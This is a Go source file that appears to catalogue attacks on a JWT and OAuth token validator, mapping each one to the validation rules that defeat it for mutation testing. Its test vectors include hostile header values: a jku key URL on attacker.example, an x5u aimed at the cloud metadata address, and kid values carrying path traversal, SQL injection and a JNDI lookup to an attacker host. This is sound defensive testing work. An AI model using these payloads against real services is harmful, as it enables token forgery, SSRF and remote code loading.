package main

// An attack names the rules that stop it. If there is no code that could be
// removed, because nothing reads what the attack relies on, it names vectors
// instead, as "file: name".
type attack struct {
	name    string
	rules   []string
	vectors []string
}

// attacks groups the mutants. Each rule belongs to one attack.
var attacks = []attack{
	// Signatures and keys.
	{"A token that is unsigned, or signed by another", []string{"the signature is not empty", "the signature is checked"}, nil},
	{"Another algorithm in the header", []string{"alg is on the list", "only known algorithms", "an algorithm's names are two on the list", "a proof's EdDSA is not allowed by Ed25519"}, nil},
	{"The public key as a shared secret", []string{"HS algorithms need a secret", "alg chooses between the Validators of an issuer", "two Validators of an issuer have no algorithm in common", "a secret is for HS algorithms", "a secret has its size"}, []string{
		"key-confusion: HS256 with PKIX PEM", "key-confusion: HS256 signature called RS256, with PKIX PEM",
	}},
	{"A key used with an algorithm that it is not for", []string{"alg is what the key says", "an algorithm's names are one in a key set", "alg fits the key's curve", "alg fits the key's type"}, nil},
	{"The token brings its own key", nil, []string{
		`headers: jwk and no kid, signed by it`,
		`headers: jku "https://attacker.example/jwks.json", signed by it`,
		`headers: x5u "http://169.254.169.254/latest/meta-data/", signed by it`,
	}},
	{"An injection by the name of a key", nil, []string{
		`headers: kid is "../../../../dev/null"`, `headers: kid is "' OR '1'='1"`, `headers: kid is "${jndi:ldap://attacker.example/a}"`,
	}},
	{"A signature that verifies more than it should", []string{"signatures have one length", "PSS salts are as long as the hash"}, nil},
	{"A weak key in the key set", []string{
		"RSA keys have 2048 bits", "RSA exponents are odd and at least 3", "RSA moduli are odd", "RSA moduli without a known weakness",
		"EC points have all their digits", "Ed25519 keys of small order are left out",
	}, nil},
	{"A key that was not meant for signatures, or was published whole", []string{
		"private keys are left out", "keys for encryption are left out", "keys without the operation verify are left out", "keys of an unknown use are left out",
	}, nil},
	{"Another issuer's or another tenant's key", []string{
		"a key that names an issuer signs for it alone", "a key's issuer is a string", "{tenantid} is the token's tid",
		"{tenantid} is nothing without a tid", "an issuer's keys are its own", "a kid names a key, of a set",
	}, nil},

	{"Metadata of another issuer, or keys from elsewhere", []string{
		"metadata is of the issuer that was asked", "a jwks_uri is an https URL", "http is accepted where it is said", "only a 200 has keys", "redirects are not followed",
		"a withdrawn key is dropped by the second response", "a client with a certificate uses the endpoint for those",
		"an endpoint for clients with a certificate is as any other",
	}, nil},

	// Reading.
	{"Two readings of one token", []string{
		"no two members of one name at the top", "no two members of one name within", "claims' names are exact", "header members' names are exact",
		"JSON is UTF-8", "nothing stands after the object", "no half of a surrogate pair", "no control characters in strings",
		"no leading zeros in numbers", "no unknown escapes", "a key set has one member keys",
	}, nil},
	{"A claim that differs from another by case", []string{
		"a field's name is exact", "names of an object differ by more than case", "a claim's name is not one of ours in another case",
		"the K that a name may have is a letter",
	}, nil},
	{"A second spelling of a token that was revoked", []string{
		"unused bits are zero", "no characters but the alphabet's", "no length that nothing has", "cnf's hashes have one spelling",
	}, nil},
	{"An extension that switches a check off", []string{"crit is refused", "b64 is true"}, nil},
	{"A member of another type than its reader expects", []string{"kid is a string", "typ is a string", "claims have their types", "a private claim of another type is empty"}, nil},
	{"Two claims that answer one question", []string{"client_id before azp", "cid before appid", "scp only without scope"}, nil},

	// Claims.
	{"Another kind of token", []string{
		"an access token of Keycloak says so", "an access token of Cognito says so", "a token of Supabase is a user's",
		"a session token of Descope says so", "a token of Clerk has a session", "a token of WorkOS has a session",
		"a token of Stytch has a session", "an access token of FusionAuth says so",
		"an access token of FusionAuth has a jti where there is no tty", "an access token of WSO2 says so",
		"an access token of Oracle says so", "a refresh token of UAA is none of access",
		"an access token of AD FS names its client", "an access token of Okta names its client",
		"an access token of PingOne names its client", "an access token of PingAM says so",
		"an access token of ZITADEL has a jti", "an access token of authentik has a uid",
		"an access token of Casdoor says so", "an access token of Duende names its client",
		"a token of Cloudflare Access is an application's", "an access token of Authelia has scopes",
		"typ is absent, JWT or at+jwt", "typ JOSE is for JWT-SVIDs", "what only other types have", "marks are looked for", "a mark by any value", "a mark's value has no case",
		"a mark's value has no separators", "RFC 9068's type", "RFC 9068's claims",
	}, nil},
	{"A token of another issuer", []string{
		"iss is ours", "iss is exact in case", "iss is exact in its slash", "sub is no issuer beside an iss", "a trust domain has its own subjects",
		"a trust domain is in small letters", "a trust domain has neither user nor port", "a SPIFFE ID's path has one spelling", "a SPIFFE ID has a size",
		"a trust domain in a Config has no path",
	}, nil},
	{"A token for another API", []string{"aud has ours", "aud is exact", "aud is not empty",
		"a claim in aud's place has ours", "a claim in aud's place has aud's form", "an aud that is there counts",
		"nothing stands in for aud unless it is said", "what stands in for aud is not empty", "an empty array alone is an empty aud",
	}, nil},
	{"A token after its time, or before it", []string{
		"exp is required", "exp has not passed", "exp itself is too late", "exp has leeway once", "nbf has come", "iat has come",
		"nbf and iat have leeway once", "leeway is the Config's", "MaxAge has no leeway", "a sign-in is not to come",
		"a sign-in's age has no leeway", "whole dates are in range", "dates with fractions are in range",
	}, nil},
	{"A token of another organization", []string{
		"org_id is exact", "org_name is exact", "only ASCII is lowered", "org_id is no name",
		"a token for no organization is for none", "no organization is none to be for", "org_name is no ID",
	}, nil},
	{"A token that does not allow it", []string{
		"all scopes", "permissions are not scopes", "clients are exact", "all roles", "any role is one of these",
		"roles are where the path says", "a role's path is followed to its end",
	}, nil},

	{"An agent that passes for its user, or for another agent", []string{
		"an actor is in act", "an actor is one of these", "an actor of the past is none", "an actor is the token's issuer's",
		"no actor, where none may act", "an actor's claims have their types", "an actor is an object", "actors are eight at most",
	}, nil},

	// Binding.
	{"A stolen token that was bound to a key", []string{
		"cnf needs a proof", "cnf is proven by something", "cnf is proven by the right key", "cnf names no second key",
		"cnf has something that is understood", "cnf's hashes have their length", "a token under DPoP is bound to the proof's key",
		"a token under DPoP is bound", "a token under DPoP is bound, without a proof",
		"a token bound to nothing is rejected where a binding is required", "a binding is proven, whatever the Validator is",
	}, nil},
	{"A proof for another request", []string{
		"a proof's method", "a proof's method is exact", "a proof's host", "a proof's path",
		"a request's path stays below its origin's", "a request's path doesn't name the host",
	}, nil},
	{"A proof of another token", []string{"a proof's ath is there", "a proof's ath is the token's"}, nil},
	{"A proof that is used again", []string{
		"a proof is used once", "a proof's name is its key's and jti's, not its signature's", "a proof's jti is there",
		"what is redeemed after a decision is not of its request", "the proof of a request is one for its Verifier alone",
		"a request redeems its proof once, at whatever Guard",
		"a replay store takes nothing that has expired", "a replay store knows what it has removed",
	}, nil},
	{"A proof that was made long ago, or in advance", []string{
		"a proof's age", "a proof's age has no leeway", "a proof is not of the future", "a proof's exp", "a proof's exp itself is too late",
		"a proof's nbf", "a proof's iat is there", "a proof's nonce",
		"a nonce has its code", "a nonce is of a late step",
	}, nil},
	{"A forged proof", []string{
		"one DPoP field", "a proof's type", "a proof's algorithm", "a proof's claims have their types", "a proof's signature",
		"a proof that costs much is verified", "a token's proof is asked for",
		"a proof's key says its algorithm",
	}, nil},
	{"A certificate that the connection does not have", []string{
		"one Client-Cert field", "the proxy's own certificate is not the client's", "answers vary by the certificate",
	}, nil},

	// What a server says about opaque tokens.
	{"An answer about an opaque token that is read as a yes", []string{
		"active is a boolean", "a token that is not active is rejected", "an answer that can't be read says nothing", "only a 200 is an answer",
		"a token_type is one that is accepted", "an answer's kind of token", "an answer's exp is checked", "a signed answer has the answer in it",
		"a userinfo response names the user",
	}, nil},
	{"An opaque token of another issuer, or for another API", []string{
		"an answer's iss is ours", "an answer without aud is for others", "an aud that is there counts, whatever the server guarantees",
	}, nil},
	{"An answer of another server, for another API, or of another time", []string{
		"a plain answer is none where signed ones are required", "a signed answer has its type", "a signed answer is the server's", "a signed answer is for us",
		"a signed answer is verified", "a signed answer has not expired", "a signed answer is not of before the question", "a signed answer has an iat",
		"a signed answer is of today",
	}, nil},
	{"A token that is sent to an attacker's endpoint", []string{
		"a token follows no redirect", "an endpoint is that of the issuer that was asked", "an endpoint is an https URL", "an endpoint is http where it is said", "a configured endpoint is an https URL",
		"an Authentication can't change the token",
	}, nil},
	{"A bound opaque token that is used as a bearer token", []string{"a token of the type DPoP has a key", "a key is that of a proof, not a certificate"}, nil},
	{"Garbage that makes the API ask the endpoint, or keeps it from asking", []string{
		"a token that is sent has the form of one", "a token that is sent has a size", "a token that a server rejects keeps no other from being asked about",
		"failures that come and go fill no log", "one call discovers the endpoint", "what is remembered of answers is bounded",
	}, nil},
	{"A revoked opaque token that is still remembered", []string{
		"an answer from before Forget is not remembered", "a token that is forgotten is asked about anew",
	}, nil},

	// Revocations.
	{"A revoked token that is still valid", []string{
		"every request asks whether its token is revoked", "the second of a revocation is revoked", "a token without iat may be older",
		"an actor has two names", "a rule holds as long as a token is accepted", "of two rules, the later times count",
		"a rule that was removed is missed if the clock is set back", "a filter has what the table has",
	}, nil},
	{"More rules than a list holds, or rules that end nothing or everything", []string{
		"a list that is full says so", "a rule has an end", "a rule names tokens of its issuer", "a rule's text in another claim names nothing",
		"a rule for new tokens names one, or a session", "a rule is not for the tokens of years to come",
	}, nil},
	{"A WebSocket or stream that outlives the revocation of its token", []string{
		"a watch ends by a rule", "a watch that begins sees the rules from before", "a watch ends with its token",
		"a watch ends if its feed must not be late", "watches are bounded", "a rule that comes while watches end is not missed",
		"all watches that a rule names end", "a rule that ends many holds no feed up",
	}, nil},
	{"A replica that does not know what another has revoked", []string{
		"rules go to the other replicas", "a feed that must not be late is asked", "a replica that starts reads the rules first",
		"a replica that is late rejects where it is said", "a replica brings back what Redis has lost", "a replica notices that rules were lost",
		"a replica notices that it has lost its place", "a replica without room for all rules is late",
		"a stored rule of another version is not half of one",
	}, nil},
	{"A logout token or security event token that is forged, another JWT, old or used again", []string{
		"a logout token says so", "a logout token has no nonce", "a logout token names a user or a session", "a logout token is of today",
		"a logout token has an end", "a logout token counts once", "a signal has a jti", "a signal has an iat", "a signal has a size",
		"a security event token has its type", "a security event token has no sub", "a security event token has no exp",
		"a security event token has the jti it was delivered by", "a push has the credentials of its stream", "a policy of Keycloak is one",
		"a policy of Keycloak has an end",
	}, nil},
	{"A signal that is lost because it was not carried out", []string{
		"a logout that was not carried out was not used", "a signal that was not carried out comes again",
	}, nil},
	{"A transmitter that ends the tokens of others, or more than it says", []string{
		"a transmitter speaks for its own users", "a group is not its tenant", "a member that is critical counts", "a new credential ends nothing",
		"an event has happened", "a policy of Keycloak is not for the tokens of years to come",
	}, nil},

	// Logins.
	{"An access token, or another token, in the place of an ID token", []string{
		"an ID token's kind by typ",
		"an ID token is none of access",
		"an ID token is no other kind by a claim",
		"claims of an ID token have their types",
	}, nil},
	{"An ID token of another client", []string{
		"a client is in aud",
		"no audience is beside a client unless it is trusted",
		"several audiences need an azp",
		"azp is the client",
		"a MAC is for one audience",
	}, nil},
	{"An ID token of another login", []string{
		"a nonce is that of the request",
		"a login has a nonce",
		"no nonce comes where none was sent",
		"an ID token has an iat",
		"an ID token is of today",
		"an ID token has a sub",
		"a sub has a size",
	}, nil},
	{"A login that is too old, too weak, or of another organization", []string{
		"a login is not to come",
		"a login is not too old",
		"acr is one of these",
		"a login is of the organization",
	}, nil},
	{"A code or an access token that was swapped", []string{
		"at_hash and c_hash are of what came",
		"a hash is there where the browser has brought the token",
	}, nil},
	{"A refresh token that brings another user", []string{
		"a renewed token is of the same issuer",
		"a renewed token is of the same user",
		"a renewed token is for the same audiences",
		"a renewed token has the same azp",
		"a renewed token is of the same login",
	}, nil},

	// Tokens of our own.
	{"A token of our own that goes to another server", []string{
		"a token goes to the named hosts alone",
		"a token goes to a host's named port",
		"a token is not sent in clear text",
		"a token is sent by http and https alone",
		"a token goes to no host that the Host field names",
		"a request to another host is not sent at all",
		"a host that gets tokens is one",
		"a request's own credentials are replaced",
		"a request's own proof is replaced",
		"a caller's request gets no token",
		"gRPC: a token goes to the named authorities alone",
		"gRPC: a token is sent over TLS",
	}, nil},
	{"Credentials that go along a redirect, or to an endpoint that another has named", []string{
		"a token request is not redirected",
		"a token endpoint is an https URL",
		"a token is in the answer of a success",
		"the answer of a token endpoint is JSON",
	}, nil},
	{"A token of another kind, or for another, in the issuer's answer", []string{
		"a token has the type that was asked for",
		"an exchanged token is an access token",
		"a token has the characters of one",
		"a token is validated before it is kept",
		"a token of our own is bound to our key",
		"a token of our own is of the organization",
		"a parameter of the grant is not the caller's",
		"a scope is one",
		"an Authentication does not change the grant",
	}, nil},
	{"A token of another user, key or request, from memory or from a Store", []string{
		"a token is kept for its request",
		"a value of a Store opens for its request alone",
		"a token in a Store is of its client",
		"a token in a Store is of its key",
		"a token in a Store is of its certificate",
		"a token in a Store is of its issuer",
		"a token from a Store is checked again",
		"a token from a Store is later than the one that failed",
		"a token from a Store is not of the future",
		"a token from a Store has a life",
		"a key of a Store has its size",
	}, nil},
	{"A token of our own that is used after its end", []string{
		"a token of our own has some seconds left",
		"a clock that was set back ends a token of our own",
		"a token of our own ends with its exp",
		"a token of our own has not ended",
		"a life that the issuer names has a limit",
		"a life that the issuer names is not zero",
	}, nil},
	{"A replayed proof of our own, or one for another request", []string{
		"a proof of our own names its token",
		"a proof of our own is used once",
		"a proof of our own has no query",
		"a proof of our own has the server's nonce",
	}, nil},
	{"A secret or a token in a text", []string{
		"an issuer's words have no secret",
		"a secret that was cut is one still",
		"an answer that is wrong is shown without the token",
		"a challenge of an issuer has no secret",
		"an HTTP client's error has no secret",
		"a Source is printed without its token",
		"a Client's Config is printed without its secret",
	}, nil},
	{"An issuer or an API that costs its client too much", []string{
		"an answer of a token endpoint has a limit",
		"a token request ends",
		"token requests have a number",
		"a token is requested once for all",
		"a caller that gives up does not end the others' request",
		"a caller waits for as long as it likes",
		"an issuer that fails is left alone",
		"an issuer that says when is left alone until then",
		"an issuer is not left alone for ever",
		"tokens that are kept have a number",
		"a token that an API rejects is renewed once in ten seconds",
		"a request is repeated once for a token",
		"a request is repeated once for a nonce",
		"a token request is repeated once for a nonce",
		"a nonce of a server's has a limit",
		"challenges that are read have a limit",
		"gRPC: a call is made again once",
		"gRPC: a call that was accepted is not made again",
		"gRPC: a call is not made again with the token that was rejected",
		"gRPC: an issuer that is down is no fault of the caller's",
		"a challenge of another scheme renews nothing",
	}, nil},

	// Requests.
	{"Credentials that two readers read differently", []string{
		"one Authorization field", "only Bearer", "a space after the scheme", "a token of b64token characters", "no token in the query as well",
	}, nil},
	{"A way around the check", []string{
		"optional is for no credentials", "a check is not optional", "only the token's source says that there is none",
		"credentials that can't be read are not missing", "a rejection has a code", "a panic accepts nothing",
		"a preflight is allowed where it is said", "a preflight is OPTIONS", "a preflight has an Origin", "a preflight asks for a method",
		"a preflight has no credentials",
	}, nil},
	{"A token on another issuer's host", []string{
		"a token is used on its issuer's host", "a host without an issuer has no tokens", "a host has one dot at its end at most",
		"a host is in ASCII", "a host has no zone",
	}, nil},
	{"A header that only a proxy may write", []string{
		"a proxy is believed from its network", "the first proxy of ours is believed, not what is before it", "an origin doesn't end early",
	}, nil},
	{"Text of the sender's in the response", []string{"quotation marks are escaped", "no error code without credentials"}, nil},

	// What is remembered.
	{"A token that is read in the log", []string{"a record has no credentials", "a record has no signed token"}, nil},
	{"A log that fails, or that a client makes cost much", []string{"a log that panics changes no response", "a record costs the same with many fields"}, nil},
	{"A remembered token that would be rejected now", []string{
		"a remembered token expires", "a remembered token has leeway once at its end", "a remembered token is not yet valid before its time",
		"a remembered token has leeway once at its beginning", "a remembered token begins with iat if nbf is earlier",
		"a remembered token begins with nbf if iat is earlier", "a remembered token's key is for its algorithm",
		"a remembered token's key is still its issuer's", "a remembered token's checks run", "a remembered token's key is still there",
		"a remembered token's binding is proven", "a remembered token is the Validator's that accepted it", "a remembered token has a place only in the room that there is",
		"a remembered token is forgotten when it has expired", "remembered tokens that have expired make room", "a remembered token is the same in full",
	}, nil},
	{"Claims of another request", []string{"checks have claims of their own", "a request has claims of its own"}, nil},

	// Cost.
	{"A token that costs much to read", []string{
		"the token has a size", "the header has a size", "depth of objects", "depth of arrays", "number of members",
		"numbers that take long are few", "objects and arrays are bounded by the text",
		"number of members with escapes", "fields of proxies are bounded",
	}, nil},
	{"A token that costs much to verify", []string{
		"RSA keys have 8192 bits at most", "few keys are tried", "a proof's key has a size", "a proof's jti is bounded",
		"a proof that costs much comes after its token",
	}, nil},
	{"Garbage that makes the API fetch keys", []string{
		"no key is fetched for another type", "no key is fetched for another issuer", "no key is fetched for another audience",
		"no key is fetched for an expired token", "no key is fetched again for a token that is bad in any case",
		"keys are fetched again for a signature once per interval",
	}, nil},
	{"More proofs than the store holds", []string{"a replay store refuses when it is full", "a replay store forgets what has expired"}, nil},
	{"Tenants that are made up, or no longer there", []string{
		"a tenant's Validator lists its issuer", "a tenant that was here is counted apart", "a tenant is asked for after a silence",
		"a tenant in use is asked for again", "a tenant outlives failed calls, for a time", "a call from before Forget says nothing",
		"first looks are limited",
	}, nil},
	{"An outage of the issuer", []string{"an outage is a 503", "a kid that could not be looked up is a 503", "an endpoint that is known is used while the metadata is silent", "a connection that is dead is replaced", "calls that fail together count once", "a 403 without a challenge says nothing about a token", "a userinfo response without a user closes nothing"}, nil},
	{"Keys of another address, or of another process of the fleet", []string{
		"a withdrawn key does not come back by another address", "the issuer's own key counts before that of another address",
		"another address adds keys no longer than the issuer's own is out", "an address that fails is left alone for a while",
		"another address is asked for unknown keys once per interval", "keys of another address have an end",
		"a fetch from before a lookup proves nothing", "a key is confirmed as gone by a response that was asked for",
		"keys that a fleet shares are sealed", "a stored key set is used for a new key only if it has that",
	}, nil},
	{"A call of a procedure or an operation that nothing guards", []string{
		"a procedure that the table does not name is rejected", "an outage is Unavailable",
		"Huma: an operation that declares no security is rejected", "Huma: the scopes of an operation are required",
		"Huma: all schemes of a requirement are required", "Huma: the checks of a scheme run",
		"Huma: a request redeems its proof once",
	}, nil},
	{"A stream that outlives its token", []string{
		"a token is accepted for as long as its Validator accepts it", "a stream ends with its token",
		"a stream ends by the clock of its Validator",
		"Connect: a stream takes no message after its token's end", "Connect: a stream that waits ends with its token",
	}, nil},
	{"A request that fasthttp reads differently from the proxy", []string{
		"Fiber: a field has one line", "Fiber: a field's name has the characters of one", "Fiber: one Host field",
		"Fiber: one Content-Type field", "Fiber: one host in the target and in the field",
		"Fiber: a field of the trailer is none of the header", "Fiber: what is read is copied",
		"Fiber: the rest of a body is not the next request",
	}, nil},

	// Configurations.
	{"A configuration that lets too much pass", []string{
		"a session of Clerk is not pending", "a caller of a service at Google is named",
		"a Google account's email is verified", "a token of Entra allows something", "a token of B2C is of the policy",
		"a repository at GitHub is named", "a project at GitLab is named", "a workload of a trust domain is named",
		"a rejected request passes only where it is only reported",
		"a preset's mark is not azp", "an Entra token names its client", "a token of UAA has a scope of the API",
		"an issuer is an https URL", "an issuer is https or http", "an issuer that is a text can be printed",
		"what stands in for aud says what a token is for", "RFC 9068 requires aud itself", "an issuer has no query", "an issuer has no credentials", "an issuer has no fragment", "an issuer has a host",
		"there is an issuer", "there is an audience", "an audience is not empty", "leeway has a limit", "token size has a limit",
		"an audience is guaranteed by the server that is asked",
	}, nil},
	{"No attack, but an honest request that must pass", []string{
		"an empty aud gives way to what stands in",
		"typ may have application/ before it", "a key for JWT-SVIDs is for signatures", "a mark's value is known", "a private claim's type is its issuer's", "InsecureSkipTypeCheck skips", "exp has leeway", "nbf and iat have leeway", "nbf itself is in time",
		"iat itself is in time", "MaxAge itself is in time", "a sign-in to come has leeway", "a proof's MaxAge itself is in time",
		"a proof of the future has leeway", "a proof at the end of leeway is in time", "a proof's exp has leeway",
		"a proof's nbf itself is in time", "a proof's nbf has leeway", "cnf's members that are not understood are ignored",
		"a proof's key has members that are not understood", "org_name is what is asked for in lower case",
		"the scheme has no case", "hosts have no case", "the scheme's own port is none", "dots in a path are resolved",
		"a host's name is the same in any case", "a 401 names the route's scopes", "members grow with MaxTokenSize",
		"x5t names a key where there is no kid", "x5t#S256 names a key where there is no kid", "x5t is no name beside a kid",
		"an empty x5t names nothing", "an x5t that no key has names nothing",
		"an answer without iss is the server's", "an answer without exp ends not",
	}, nil},
}
